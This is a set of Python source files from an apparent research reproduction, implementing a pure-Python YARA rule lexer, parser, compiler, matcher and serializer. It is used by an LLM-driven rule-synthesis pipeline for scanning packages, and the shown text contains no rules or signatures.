    """A string definition compiled into an executable matcher."""

    def __init__(self, definition: ast.StringDef, rule_name: str) -> None:
        self.definition = definition
        self.identifier = definition.identifier
        self._rule_name = rule_name
        self._regex = self._build_regex(definition)
        # a plain text string (no modifiers) matches iff its value occurs as
        # a substring, so existence checks can use C-speed ``in``
        self._plain_value = (
            definition.value
            if definition.kind == ast.TEXT
            and not (set(definition.modifiers) - {"ascii"})
            else None
        )

    # -- compilation -----------------------------------------------------------
    def _build_regex(self, definition: ast.StringDef) -> re.Pattern[str]:
        flags = re.IGNORECASE if "nocase" in definition.modifiers else 0
        if definition.kind == ast.TEXT:
            if definition.value == "":
                raise YaraCompilationError(
                    f"string {definition.identifier} has an empty value", rule_name=self._rule_name
                )
            pattern = re.escape(definition.value)
            if "fullword" in definition.modifiers:
                pattern = rf"(?<!\w){pattern}(?!\w)"
            if "wide" in definition.modifiers and "ascii" not in definition.modifiers:
                # wide strings are UTF-16LE: interleave NUL bytes
                pattern = "\x00?".join(re.escape(ch) for ch in definition.value)
        elif definition.kind == ast.REGEX:
            pattern = definition.value
            if not pattern:
                raise YaraCompilationError(
                    f"string {definition.identifier} has an empty regular expression",
                    rule_name=self._rule_name,
                )
        elif definition.kind == ast.HEX:
            pattern = self._hex_to_regex(definition.value)
        else:  # pragma: no cover - StringDef validates kinds
            raise YaraCompilationError(f"unsupported string kind {definition.kind}")
        try:
            return re.compile(pattern, flags | re.DOTALL)
        except re.error as exc:
            raise YaraCompilationError(
                f"invalid regular expression in string {definition.identifier}: {exc}",
                rule_name=self._rule_name,
            ) from exc

    def _hex_to_regex(self, hex_body: str) -> str:
        """Translate a hex string body (``AB ?? CD [2-4]``) into a regex."""
        parts: list[str] = []
        tokens = hex_body.replace("[", " [ ").replace("]", " ] ").split()
        index = 0
        while index < len(tokens):
            token = tokens[index]
            if token == "[":
                # jump: [n] or [n-m]
                try:
                    closing = tokens.index("]", index)
                except ValueError as exc:
                    raise YaraCompilationError(
                        f"unterminated jump in hex string {self.identifier}",
                        rule_name=self._rule_name,
                    ) from exc
                jump = "".join(tokens[index + 1 : closing])
                if "-" in jump:
                    low, high = jump.split("-", 1)
                    parts.append(f".{{{int(low)},{int(high)}}}")
                else:
                    parts.append(f".{{{int(jump)}}}")
                index = closing + 1
                continue
            if token == "??":
                parts.append(".")
            elif len(token) == 2 and all(c in "0123456789abcdefABCDEF?" for c in token):
                if "?" in token:
                    parts.append(".")
                else:
                    parts.append(re.escape(chr(int(token, 16))))
            else:
                raise YaraCompilationError(
                    f"invalid byte {token!r} in hex string {self.identifier}",
                    rule_name=self._rule_name,
                )
            index += 1
        if not parts:
            raise YaraCompilationError(
                f"empty hex string {self.identifier}", rule_name=self._rule_name
            )
        return "".join(parts)

    # -- atoms -------------------------------------------------------------------
    @property
    def case_insensitive(self) -> bool:
        return bool(self._regex.flags & re.IGNORECASE)

    def atoms(self, min_length: int = 3) -> tuple[str, ...]:
        """Literal substrings guaranteed to occur in any match of this string.

        YARA proper extracts short "atoms" from every string and feeds them to
        an Aho–Corasick prefilter; this is the equivalent hook for
        :mod:`repro.scanserve`.  Atoms shorter than ``min_length`` are
        discarded (too unselective to be worth indexing); an empty result
        means "no usable atom — evaluate this string unconditionally".
        """
        runs = required_literal_runs(self._regex.pattern)
        return tuple(run for run in runs if len(run) >= min_length)

    # -- matching ----------------------------------------------------------------
    def search(self, data: str) -> bool:
        """Whether the string occurs at all (early-exit; no match collection)."""
        if self._plain_value is not None:
            return self._plain_value in data
        return self._regex.search(data) is not None

    def find(self, data: str, max_matches: int = 1000) -> list[StringMatch]:
        matches: list[StringMatch] = []
        for found in self._regex.finditer(data):
            matches.append(StringMatch(self.identifier, found.start(), found.group(0)))
            if len(matches) >= max_matches:
                break
        return matches


class ConditionEvaluator:
    """Evaluate a rule condition given per-string match results."""

    def __init__(
        self,
        matches_by_id: dict[str, list[StringMatch]],
        all_identifiers: list[str],
        data_length: int,
    ) -> None:
        self.matches_by_id = matches_by_id
        self.all_identifiers = all_identifiers
        self.data_length = data_length

    def evaluate(self, expr: ast.Expression) -> bool:
        return bool(self._eval(expr))

    # -- recursive evaluation ------------------------------------------------------
    def _eval(self, expr: ast.Expression):
        if isinstance(expr, ast.BoolLiteral):
            return expr.value
        if isinstance(expr, ast.IntLiteral):
            return expr.value
        if isinstance(expr, ast.Filesize):
            return self.data_length
        if isinstance(expr, ast.StringRef):
            return len(self.matches_by_id.get(expr.identifier, [])) > 0
        if isinstance(expr, ast.StringCount):
            return len(self.matches_by_id.get(expr.identifier, []))
        if isinstance(expr, ast.NotExpr):
            return not self._truthy(self._eval(expr.operand))
        if isinstance(expr, ast.AndExpr):
            return all(self._truthy(self._eval(op)) for op in expr.operands)
        if isinstance(expr, ast.OrExpr):
            return any(self._truthy(self._eval(op)) for op in expr.operands)
        if isinstance(expr, ast.Comparison):
            return self._compare(expr)
        if isinstance(expr, ast.OfExpr):
            return self._eval_of(expr)
        raise YaraCompilationError(f"cannot evaluate expression node {type(expr).__name__}")

    @staticmethod
    def _truthy(value) -> bool:
        if isinstance(value, bool):
            return value
        if isinstance(value, int):
            return value != 0
        return bool(value)

    def _compare(self, expr: ast.Comparison) -> bool:
        left = self._eval(expr.left)
        right = self._eval(expr.right)
        left = int(left) if isinstance(left, bool) else left
        right = int(right) if isinstance(right, bool) else right
        if expr.op == "<":
            return left < right
        if expr.op == ">":
            return left > right
        if expr.op == "<=":
            return left <= right
        if expr.op == ">=":
            return left >= right
        if expr.op == "==":
            return left == right
        if expr.op == "!=":
            return left != right
        raise YaraCompilationError(f"unknown comparison operator {expr.op!r}")

    def _eval_of(self, expr: ast.OfExpr) -> bool:
        if expr.string_set.them:
            identifiers = list(self.all_identifiers)
        else:
            identifiers = []
            for member in expr.string_set.members:
                if member.endswith("*"):
                    prefix = member[:-1]
                    identifiers.extend(i for i in self.all_identifiers if i.startswith(prefix))
                else:
                    identifiers.append(member)
        matched = sum(1 for identifier in identifiers if self.matches_by_id.get(identifier))
        total = len(identifiers)
        if expr.quantifier == "any":
            return matched >= 1
        if expr.quantifier == "all":
            return total > 0 and matched == total
        return matched >= int(expr.quantifier)
