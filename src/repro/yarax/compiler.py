"""Compilation of parsed YARA rules into executable matchers.

Compilation performs the semantic checks real YARA performs -- undefined
string references, unreferenced strings, missing conditions, duplicate rule
names, invalid regular expressions and hex strings -- and raises
:class:`~repro.yarax.errors.YaraCompilationError` with ``yarac``-style
messages.  Those messages are exactly what the alignment agent feeds back to
the LLM (paper Section IV-C, Figure 4).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Sequence

from repro.yarax import ast_nodes as ast
from repro.yarax.errors import YaraCompilationError
from repro.yarax.matcher import CompiledString, ConditionEvaluator, RuleMatch
from repro.yarax.parser import parse_source


@dataclass
class CompiledRule:
    """One rule compiled into executable string matchers plus a condition."""

    ast: ast.RuleAst
    strings: list[CompiledString] = field(default_factory=list)

    @property
    def name(self) -> str:
        return self.ast.name

    @property
    def meta(self) -> dict[str, object]:
        return self.ast.meta

    @property
    def tags(self) -> tuple[str, ...]:
        return self.ast.tags

    def match(self, data: str) -> RuleMatch | None:
        """Scan ``data`` and return a :class:`RuleMatch` if the rule fires."""
        matches_by_id = {cs.identifier: cs.find(data) for cs in self.strings}
        evaluator = ConditionEvaluator(
            matches_by_id=matches_by_id,
            all_identifiers=[cs.identifier for cs in self.strings],
            data_length=len(data),
        )
        if not evaluator.evaluate(self.ast.condition):
            return None
        string_matches = [m for matches in matches_by_id.values() for m in matches]
        return RuleMatch(
            rule_name=self.name,
            tags=self.tags,
            meta=dict(self.meta),
            string_matches=string_matches,
        )


@dataclass
class CompiledRuleSet:
    """A collection of compiled rules scanned together."""

    rules: list[CompiledRule] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.rules)

    def __iter__(self):
        return iter(self.rules)

    def rule(self, name: str) -> CompiledRule | None:
        for compiled in self.rules:
            if compiled.name == name:
                return compiled
        return None

    def rule_names(self) -> list[str]:
        return [compiled.name for compiled in self.rules]

    def match(self, data: str) -> list[RuleMatch]:
        """Return the matches of every rule that fires on ``data``."""
        results = []
        for compiled in self.rules:
            found = compiled.match(data)
            if found is not None:
                results.append(found)
        return results

    def extend(self, other: "CompiledRuleSet") -> "CompiledRuleSet":
        """Return a new rule set containing this set's rules plus ``other``'s."""
        merged = CompiledRuleSet(list(self.rules))
        existing = set(merged.rule_names())
        for compiled in other.rules:
            if compiled.name in existing:
                raise YaraCompilationError(f"duplicated rule name \"{compiled.name}\"")
            merged.rules.append(compiled)
            existing.add(compiled.name)
        return merged


def compile_rules(rule_asts: Sequence[ast.RuleAst]) -> CompiledRuleSet:
    """Compile already-parsed rules, running all semantic checks."""
    seen_names: set[str] = set()
    compiled_rules: list[CompiledRule] = []
    for rule_ast in rule_asts:
        if rule_ast.name in seen_names:
            raise YaraCompilationError(f"duplicated rule identifier \"{rule_ast.name}\"")
        seen_names.add(rule_ast.name)
        compiled_rules.append(_compile_one(rule_ast))
    return CompiledRuleSet(compiled_rules)


def compile_source(source: str) -> CompiledRuleSet:
    """Parse and compile YARA source text."""
    return compile_rules(parse_source(source))


def _compile_one(rule_ast: ast.RuleAst) -> CompiledRule:
    name = rule_ast.name
    if rule_ast.condition is None:
        raise YaraCompilationError("missing condition section", rule_name=name)
    if not rule_ast.strings and _condition_needs_strings(rule_ast.condition):
        raise YaraCompilationError("missing strings section", rule_name=name)

    identifiers = rule_ast.string_identifiers()
    duplicates = {i for i in identifiers if identifiers.count(i) > 1}
    if duplicates:
        raise YaraCompilationError(
            f"duplicated string identifier \"{sorted(duplicates)[0]}\"", rule_name=name
        )

    referenced = ast.referenced_strings(rule_ast.condition)
    defined = set(identifiers)
    undefined = sorted(referenced - defined)
    if undefined:
        raise YaraCompilationError(
            f"undefined string \"{undefined[0]}\" in condition", rule_name=name
        )
    for prefix in sorted(ast.wildcard_references(rule_ast.condition)):
        if not any(identifier.startswith(prefix) for identifier in defined):
            raise YaraCompilationError(
                f"undefined string \"{prefix}*\" in condition", rule_name=name
            )
    if defined and not referenced and not ast.has_of_expression(rule_ast.condition):
        unused = sorted(defined)[0]
        raise YaraCompilationError(
            f"unreferenced string \"{unused}\" (no string is used by the condition)",
            rule_name=name,
        )

    compiled_strings = [CompiledString(definition, name) for definition in rule_ast.strings]
    return CompiledRule(ast=rule_ast, strings=compiled_strings)


def _condition_needs_strings(condition: ast.Expression) -> bool:
    """True when the condition references strings (directly or via 'of them')."""
    if ast.referenced_strings(condition):
        return True
    return ast.uses_them(condition)


def try_compile(source: str) -> tuple[CompiledRuleSet | None, str | None]:
    """Compile source, returning ``(ruleset, None)`` or ``(None, error_message)``.

    This is the "tool interface" the alignment agent calls (paper Figure 4):
    a successful compilation returns the rule set; a failure returns the
    compiler's error message for the LLM to act on.
    """
    try:
        return compile_source(source), None
    except Exception as exc:  # YaraError subclasses carry the message
        return None, str(exc)


def scan_many(ruleset: CompiledRuleSet, documents: Iterable[str]) -> list[list[RuleMatch]]:
    """Scan each document with the rule set, preserving input order."""
    return [ruleset.match(document) for document in documents]
