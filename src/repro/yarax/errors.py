"""Errors raised by the YARA engine.

The alignment agent (paper Section IV-C) consumes these messages verbatim, so
they are written the way ``yarac`` phrases its diagnostics: a location, an
error class, and the offending token or identifier.
"""

from __future__ import annotations


class YaraError(Exception):
    """Base class for all YARA engine errors."""


class YaraSyntaxError(YaraError):
    """A lexical or grammatical error in rule source text."""

    def __init__(self, message: str, line: int | None = None, column: int | None = None) -> None:
        location = ""
        if line is not None:
            location = f"line {line}"
            if column is not None:
                location += f", column {column}"
            location = f"({location}): "
        super().__init__(f"syntax error {location}{message}" if location else f"syntax error: {message}")
        self.line = line
        self.column = column
        self.reason = message


class YaraCompilationError(YaraError):
    """A semantic error found while compiling a parsed rule."""

    def __init__(self, message: str, rule_name: str | None = None) -> None:
        prefix = f"rule \"{rule_name}\": " if rule_name else ""
        super().__init__(f"compilation error: {prefix}{message}")
        self.rule_name = rule_name
        self.reason = message
