"""Recursive-descent parser for YARA rule source text."""

from __future__ import annotations

from repro.yarax import ast_nodes as ast
from repro.yarax.errors import YaraSyntaxError
from repro.yarax.lexer import (
    EOF,
    HEX_STRING,
    IDENTIFIER,
    INTEGER,
    KEYWORD,
    PUNCT,
    REGEX_LITERAL,
    STRING_COUNT,
    STRING_ID,
    STRING_LITERAL,
    Token,
    tokenize,
)

_SIZE_MULTIPLIERS = {"KB": 1024, "MB": 1024 * 1024}


class Parser:
    """Parse a token stream into a list of :class:`~repro.yarax.ast_nodes.RuleAst`."""

    def __init__(self, tokens: list[Token]) -> None:
        self.tokens = tokens
        self.index = 0

    # -- token helpers ---------------------------------------------------------
    @property
    def current(self) -> Token:
        return self.tokens[self.index]

    def _advance(self) -> Token:
        token = self.current
        if token.type != EOF:
            self.index += 1
        return token

    def _check(self, token_type: str, value: str | None = None) -> bool:
        token = self.current
        if token.type != token_type:
            return False
        return value is None or token.value == value

    def _match(self, token_type: str, value: str | None = None) -> Token | None:
        if self._check(token_type, value):
            return self._advance()
        return None

    def _expect(self, token_type: str, value: str | None = None, context: str = "") -> Token:
        if self._check(token_type, value):
            return self._advance()
        token = self.current
        expected = value or token_type.lower()
        suffix = f" in {context}" if context else ""
        raise YaraSyntaxError(
            f"expected {expected!r} but found {token.value!r}{suffix}",
            line=token.line,
            column=token.column,
        )

    # -- grammar ------------------------------------------------------------------
    def parse(self) -> list[ast.RuleAst]:
        rules: list[ast.RuleAst] = []
        while not self._check(EOF):
            # tolerate and skip import statements
            if self._check(KEYWORD, "import"):
                self._advance()
                self._expect(STRING_LITERAL, context="import statement")
                continue
            # rule visibility modifiers
            while self._check(KEYWORD, "private") or self._check(KEYWORD, "global"):
                self._advance()
            rules.append(self._parse_rule())
        if not rules:
            raise YaraSyntaxError("no rules found in source")
        return rules

    def _parse_rule(self) -> ast.RuleAst:
        keyword = self._expect(KEYWORD, "rule", context="rule declaration")
        name_token = self.current
        if name_token.type not in (IDENTIFIER, KEYWORD):
            raise YaraSyntaxError(
                f"expected rule identifier but found {name_token.value!r}",
                line=name_token.line,
                column=name_token.column,
            )
        self._advance()
        rule = ast.RuleAst(name=name_token.value, line=keyword.line)

        if self._match(PUNCT, ":"):
            tags = []
            while self._check(IDENTIFIER) or self._check(KEYWORD):
                tags.append(self._advance().value)
            if not tags:
                raise YaraSyntaxError("expected at least one tag after ':'", line=self.current.line)
            rule.tags = tuple(tags)

        self._expect(PUNCT, "{", context=f"rule {rule.name}")
        while not self._check(PUNCT, "}"):
            if self._check(EOF):
                raise YaraSyntaxError(f"unexpected end of file inside rule {rule.name}",
                                      line=self.current.line)
            if self._match(KEYWORD, "meta"):
                self._expect(PUNCT, ":", context="meta section")
                rule.meta = self._parse_meta()
            elif self._match(KEYWORD, "strings"):
                self._expect(PUNCT, ":", context="strings section")
                rule.strings = self._parse_strings(rule.name)
            elif self._match(KEYWORD, "condition"):
                self._expect(PUNCT, ":", context="condition section")
                rule.condition = self._parse_expression()
            else:
                token = self.current
                raise YaraSyntaxError(
                    f"unexpected token {token.value!r} inside rule {rule.name}",
                    line=token.line,
                    column=token.column,
                )
        self._expect(PUNCT, "}", context=f"rule {rule.name}")
        return rule

    # -- sections -------------------------------------------------------------------
    def _parse_meta(self) -> dict[str, object]:
        meta: dict[str, object] = {}
        while self._check(IDENTIFIER) or (self._check(KEYWORD) and self._peek_is_assignment()):
            key = self._advance().value
            self._expect(PUNCT, "=", context="meta entry")
            token = self.current
            if token.type == STRING_LITERAL:
                meta[key] = self._advance().value
            elif token.type == INTEGER:
                meta[key] = self._parse_integer_value(self._advance().value)
            elif token.type == KEYWORD and token.value in ("true", "false"):
                meta[key] = self._advance().value == "true"
            else:
                raise YaraSyntaxError(
                    f"invalid meta value {token.value!r}", line=token.line, column=token.column
                )
        return meta

    def _peek_is_assignment(self) -> bool:
        nxt = self.tokens[self.index + 1] if self.index + 1 < len(self.tokens) else None
        return nxt is not None and nxt.type == PUNCT and nxt.value == "="

    def _parse_strings(self, rule_name: str) -> list[ast.StringDef]:
        strings: list[ast.StringDef] = []
        while self._check(STRING_ID):
            id_token = self._advance()
            identifier = id_token.value
            self._expect(PUNCT, "=", context=f"string {identifier}")
            value_token = self.current
            if value_token.type == STRING_LITERAL:
                kind, value = ast.TEXT, self._advance().value
            elif value_token.type == REGEX_LITERAL:
                kind, value = ast.REGEX, self._advance().value
            elif value_token.type == HEX_STRING:
                kind, value = ast.HEX, self._advance().value
            else:
                raise YaraSyntaxError(
                    f"invalid string value for {identifier} in rule {rule_name}",
                    line=value_token.line,
                    column=value_token.column,
                )
            modifiers = []
            while self._check(KEYWORD) and self.current.value in ("nocase", "wide", "ascii", "fullword"):
                modifiers.append(self._advance().value)
            try:
                strings.append(
                    ast.StringDef(identifier=identifier, kind=kind, value=value,
                                  modifiers=tuple(modifiers), line=id_token.line)
                )
            except ValueError as exc:
                raise YaraSyntaxError(str(exc), line=id_token.line) from exc
        if not strings:
            raise YaraSyntaxError(f"empty strings section in rule {rule_name}",
                                  line=self.current.line)
        return strings

    # -- condition expression grammar ---------------------------------------------------
    # expression := or_expr
    # or_expr    := and_expr ('or' and_expr)*
    # and_expr   := unary ('and' unary)*
    # unary      := 'not' unary | comparison
    # comparison := primary (('<'|'>'|'<='|'>='|'=='|'!=') primary)?
    # primary    := '(' expression ')' | of_expr | string_ref | count | int | bool | filesize

    def _parse_expression(self) -> ast.Expression:
        return self._parse_or()

    def _parse_or(self) -> ast.Expression:
        operands = [self._parse_and()]
        while self._match(KEYWORD, "or"):
            operands.append(self._parse_and())
        return operands[0] if len(operands) == 1 else ast.OrExpr(operands)

    def _parse_and(self) -> ast.Expression:
        operands = [self._parse_unary()]
        while self._match(KEYWORD, "and"):
            operands.append(self._parse_unary())
        return operands[0] if len(operands) == 1 else ast.AndExpr(operands)

    def _parse_unary(self) -> ast.Expression:
        if self._match(KEYWORD, "not"):
            return ast.NotExpr(self._parse_unary())
        return self._parse_comparison()

    def _parse_comparison(self) -> ast.Expression:
        left = self._parse_primary()
        if self._check(PUNCT) and self.current.value in ("<", ">", "<=", ">=", "==", "!="):
            op = self._advance().value
            right = self._parse_primary()
            return ast.Comparison(left, op, right)
        return left

    def _parse_primary(self) -> ast.Expression:
        token = self.current
        if self._match(PUNCT, "("):
            inner = self._parse_expression()
            self._expect(PUNCT, ")", context="parenthesised expression")
            return inner
        if token.type == KEYWORD and token.value in ("any", "all"):
            return self._parse_of_expression()
        if token.type == INTEGER and self._next_is_of():
            return self._parse_of_expression()
        if token.type == STRING_ID:
            self._advance()
            identifier = token.value
            if identifier.endswith("*"):
                raise YaraSyntaxError(
                    "wildcard string reference is only allowed inside an 'of' expression",
                    line=token.line,
                )
            # optional "at offset" / "in (a..b)" qualifiers -- parsed, evaluated as presence
            if self._match(KEYWORD, "at"):
                self._expect(INTEGER, context="'at' expression")
            elif self._match(KEYWORD, "in"):
                self._expect(PUNCT, "(", context="'in' range")
                self._expect(INTEGER, context="'in' range")
                self._expect(PUNCT, "..", context="'in' range")
                self._expect(INTEGER, context="'in' range")
                self._expect(PUNCT, ")", context="'in' range")
            return ast.StringRef(identifier)
        if token.type == STRING_COUNT:
            self._advance()
            return ast.StringCount("$" + token.value[1:])
        if token.type == INTEGER:
            self._advance()
            return ast.IntLiteral(self._parse_integer_value(token.value))
        if token.type == KEYWORD and token.value in ("true", "false"):
            self._advance()
            return ast.BoolLiteral(token.value == "true")
        if token.type == KEYWORD and token.value == "filesize":
            self._advance()
            return ast.Filesize()
        if token.type == KEYWORD and token.value == "them":
            raise YaraSyntaxError("'them' may only appear after 'of'", line=token.line)
        raise YaraSyntaxError(
            f"unexpected token {token.value!r} in condition", line=token.line, column=token.column
        )

    def _next_is_of(self) -> bool:
        nxt = self.tokens[self.index + 1] if self.index + 1 < len(self.tokens) else None
        return nxt is not None and nxt.type == KEYWORD and nxt.value == "of"

    def _parse_of_expression(self) -> ast.OfExpr:
        token = self._advance()
        if token.type == INTEGER:
            quantifier: int | str = self._parse_integer_value(token.value)
        else:
            quantifier = token.value  # 'any' or 'all'
        self._expect(KEYWORD, "of", context="'of' expression")
        if self._match(KEYWORD, "them"):
            return ast.OfExpr(quantifier=quantifier, string_set=ast.StringSet(them=True))
        self._expect(PUNCT, "(", context="'of' string set")
        members: list[str] = []
        while True:
            member = self._expect(STRING_ID, context="'of' string set")
            members.append(member.value)
            if not self._match(PUNCT, ","):
                break
        self._expect(PUNCT, ")", context="'of' string set")
        return ast.OfExpr(quantifier=quantifier, string_set=ast.StringSet(members=tuple(members)))

    # -- literals --------------------------------------------------------------------------
    @staticmethod
    def _parse_integer_value(raw: str) -> int:
        raw = raw.strip()
        for suffix, multiplier in _SIZE_MULTIPLIERS.items():
            if raw.endswith(suffix):
                return int(raw[: -len(suffix)]) * multiplier
        if raw.lower().startswith("0x"):
            return int(raw, 16)
        return int(raw)


def parse_source(source: str) -> list[ast.RuleAst]:
    """Parse YARA source text into rule ASTs."""
    if not source or not source.strip():
        raise YaraSyntaxError("empty rule source")
    return Parser(tokenize(source)).parse()
