"""Pure-Python YARA engine (substrate for the paper's YARA dependency).

The pipeline needs two capabilities from YARA: *compiling* rules (the
alignment agent reacts to compiler errors, paper Section IV-C) and *scanning*
packages (the evaluation counts matches).  This subpackage implements a
faithful subset of YARA:

* rule syntax: ``rule NAME [: tags] { meta: ... strings: ... condition: ... }``
* string definitions: text strings with ``nocase``/``wide``/``ascii``/
  ``fullword`` modifiers, ``/regex/`` patterns, and ``{ AB ?? CD }`` hex
  strings
* conditions: string references, ``and``/``or``/``not``, parentheses,
  ``any/all/N of them``, ``any of ($prefix*)``, string counts (``#a``),
  ``filesize`` comparisons and integer literals

Public entry points are :func:`compile_source` / :func:`compile_rules` and
the returned :class:`~repro.yarax.compiler.CompiledRuleSet`'s ``match``.
"""

from repro.yarax.errors import (
    YaraCompilationError,
    YaraError,
    YaraSyntaxError,
)
from repro.yarax.ast_nodes import RuleAst, StringDef
from repro.yarax.parser import parse_source
from repro.yarax.compiler import CompiledRule, CompiledRuleSet, compile_rules, compile_source
from repro.yarax.matcher import RuleMatch, StringMatch
from repro.yarax.serializer import YaraRuleBuilder, serialize_rule

__all__ = [
    "YaraError",
    "YaraSyntaxError",
    "YaraCompilationError",
    "RuleAst",
    "StringDef",
    "parse_source",
    "compile_source",
    "compile_rules",
    "CompiledRule",
    "CompiledRuleSet",
    "RuleMatch",
    "StringMatch",
    "YaraRuleBuilder",
    "serialize_rule",
]
