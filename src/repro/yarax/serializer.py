"""Serialisation of YARA rules back to source text, plus a builder API.

The simulated LLM composes rules programmatically with
:class:`YaraRuleBuilder` and then *serialises them to text*, because the
pipeline's contract (and the paper's) is that rules are plain ``.yar`` files
deployable in existing tools.  The serialised text is what gets compiled,
aligned, stored and evaluated -- keeping the round trip honest.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.yarax import ast_nodes as ast
from repro.utils.text import safe_identifier


def _escape_text(value: str) -> str:
    escaped = value.replace("\\", "\\\\").replace('"', '\\"')
    escaped = escaped.replace("\n", "\\n").replace("\t", "\\t")
    return escaped


def _serialize_meta_value(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    return f'"{_escape_text(str(value))}"'


def _serialize_expression(expr: ast.Expression) -> str:
    if isinstance(expr, ast.BoolLiteral):
        return "true" if expr.value else "false"
    if isinstance(expr, ast.IntLiteral):
        return str(expr.value)
    if isinstance(expr, ast.Filesize):
        return "filesize"
    if isinstance(expr, ast.StringRef):
        return expr.identifier
    if isinstance(expr, ast.StringCount):
        return "#" + expr.identifier[1:]
    if isinstance(expr, ast.NotExpr):
        return f"not ({_serialize_expression(expr.operand)})"
    if isinstance(expr, ast.AndExpr):
        return " and ".join(_wrap(op) for op in expr.operands)
    if isinstance(expr, ast.OrExpr):
        return " or ".join(_wrap(op) for op in expr.operands)
    if isinstance(expr, ast.Comparison):
        return f"{_serialize_expression(expr.left)} {expr.op} {_serialize_expression(expr.right)}"
    if isinstance(expr, ast.OfExpr):
        quantifier = str(expr.quantifier)
        if expr.string_set.them:
            return f"{quantifier} of them"
        members = ", ".join(expr.string_set.members)
        return f"{quantifier} of ({members})"
    raise TypeError(f"cannot serialise expression node {type(expr).__name__}")


def _wrap(expr: ast.Expression) -> str:
    text = _serialize_expression(expr)
    if isinstance(expr, (ast.AndExpr, ast.OrExpr)):
        return f"({text})"
    return text


def serialize_rule(rule: ast.RuleAst) -> str:
    """Render a rule AST as canonical YARA source text."""
    lines: list[str] = []
    header = f"rule {rule.name}"
    if rule.tags:
        header += " : " + " ".join(rule.tags)
    lines.append(header)
    lines.append("{")
    if rule.meta:
        lines.append("    meta:")
        for key, value in rule.meta.items():
            lines.append(f"        {key} = {_serialize_meta_value(value)}")
    if rule.strings:
        lines.append("    strings:")
        for definition in rule.strings:
            lines.append("        " + _serialize_string(definition))
    condition_text = _serialize_expression(rule.condition) if rule.condition is not None else ""
    lines.append("    condition:")
    lines.append(f"        {condition_text}")
    lines.append("}")
    return "\n".join(lines) + "\n"


def _serialize_string(definition: ast.StringDef) -> str:
    if definition.kind == ast.TEXT:
        value = f'"{_escape_text(definition.value)}"'
    elif definition.kind == ast.REGEX:
        value = f"/{definition.value}/"
    else:
        value = "{ " + definition.value + " }"
    modifiers = (" " + " ".join(definition.modifiers)) if definition.modifiers else ""
    return f"{definition.identifier} = {value}{modifiers}"


@dataclass
class YaraRuleBuilder:
    """Fluent builder used by the rule-synthesis stage."""

    name: str
    tags: list[str] = field(default_factory=list)
    _meta: dict[str, object] = field(default_factory=dict)
    _strings: list[ast.StringDef] = field(default_factory=list)
    _condition: ast.Expression | None = None

    def __post_init__(self) -> None:
        self.name = safe_identifier(self.name)

    # -- meta -----------------------------------------------------------------
    def meta(self, key: str, value: object) -> "YaraRuleBuilder":
        self._meta[key] = value
        return self

    # -- strings ----------------------------------------------------------------
    def _next_identifier(self, prefix: str) -> str:
        return f"${prefix}{len(self._strings)}"

    def text_string(self, value: str, prefix: str = "s", nocase: bool = False,
                    fullword: bool = False) -> "YaraRuleBuilder":
        modifiers = tuple(
            modifier for modifier, enabled in (("nocase", nocase), ("fullword", fullword)) if enabled
        )
        self._strings.append(
            ast.StringDef(self._next_identifier(prefix), ast.TEXT, value, modifiers)
        )
        return self

    def regex_string(self, pattern: str, prefix: str = "re") -> "YaraRuleBuilder":
        self._strings.append(ast.StringDef(self._next_identifier(prefix), ast.REGEX, pattern))
        return self

    def hex_string(self, body: str, prefix: str = "h") -> "YaraRuleBuilder":
        self._strings.append(ast.StringDef(self._next_identifier(prefix), ast.HEX, body))
        return self

    @property
    def string_identifiers(self) -> list[str]:
        return [definition.identifier for definition in self._strings]

    @property
    def string_count(self) -> int:
        return len(self._strings)

    # -- condition ---------------------------------------------------------------
    def condition_any_of_them(self) -> "YaraRuleBuilder":
        self._condition = ast.OfExpr("any", ast.StringSet(them=True))
        return self

    def condition_all_of_them(self) -> "YaraRuleBuilder":
        self._condition = ast.OfExpr("all", ast.StringSet(them=True))
        return self

    def condition_n_of_them(self, n: int) -> "YaraRuleBuilder":
        self._condition = ast.OfExpr(int(n), ast.StringSet(them=True))
        return self

    def condition_expression(self, expression: ast.Expression) -> "YaraRuleBuilder":
        self._condition = expression
        return self

    # -- output -------------------------------------------------------------------
    def build_ast(self) -> ast.RuleAst:
        condition = self._condition
        if condition is None:
            condition = ast.OfExpr("any", ast.StringSet(them=True))
        return ast.RuleAst(
            name=self.name,
            tags=tuple(self.tags),
            meta=dict(self._meta),
            strings=list(self._strings),
            condition=condition,
        )

    def to_source(self) -> str:
        return serialize_rule(self.build_ast())
