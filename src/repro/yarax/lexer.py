"""Tokenizer for YARA rule source text."""

from __future__ import annotations

from dataclasses import dataclass

from repro.yarax.errors import YaraSyntaxError

# Token types
KEYWORD = "KEYWORD"
IDENTIFIER = "IDENTIFIER"
STRING_ID = "STRING_ID"        # $a
STRING_COUNT = "STRING_COUNT"  # #a
STRING_LITERAL = "STRING_LITERAL"
REGEX_LITERAL = "REGEX_LITERAL"
HEX_STRING = "HEX_STRING"
INTEGER = "INTEGER"
PUNCT = "PUNCT"
EOF = "EOF"

KEYWORDS = {
    "rule", "meta", "strings", "condition", "and", "or", "not", "any", "all",
    "of", "them", "true", "false", "filesize", "nocase", "wide", "ascii",
    "fullword", "import", "private", "global", "at", "in",
}

_PUNCTUATION = ("<=", ">=", "==", "!=", "{", "}", "(", ")", ":", "=", ",", "<", ">", "*", "..", "[", "]", "-")


@dataclass(frozen=True)
class Token:
    type: str
    value: str
    line: int
    column: int

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"Token({self.type}, {self.value!r}, line={self.line})"


class Lexer:
    """Convert YARA source text into a list of tokens."""

    def __init__(self, source: str) -> None:
        self.source = source
        self.pos = 0
        self.line = 1
        self.column = 1
        self.tokens: list[Token] = []
        # Hex strings look like '{ AB CD }' which collides with rule bodies;
        # the lexer only treats '{' as a hex string opener right after '='
        # inside a strings section.  We approximate by tracking whether the
        # previous significant token was '='.
        self._previous_was_assign = False

    # -- helpers -----------------------------------------------------------
    def _peek(self, offset: int = 0) -> str:
        index = self.pos + offset
        return self.source[index] if index < len(self.source) else ""

    def _advance(self, count: int = 1) -> str:
        text = self.source[self.pos : self.pos + count]
        for ch in text:
            if ch == "\n":
                self.line += 1
                self.column = 1
            else:
                self.column += 1
        self.pos += count
        return text

    def _error(self, message: str) -> YaraSyntaxError:
        return YaraSyntaxError(message, line=self.line, column=self.column)

    def _emit(self, token_type: str, value: str, line: int, column: int) -> None:
        self.tokens.append(Token(token_type, value, line, column))
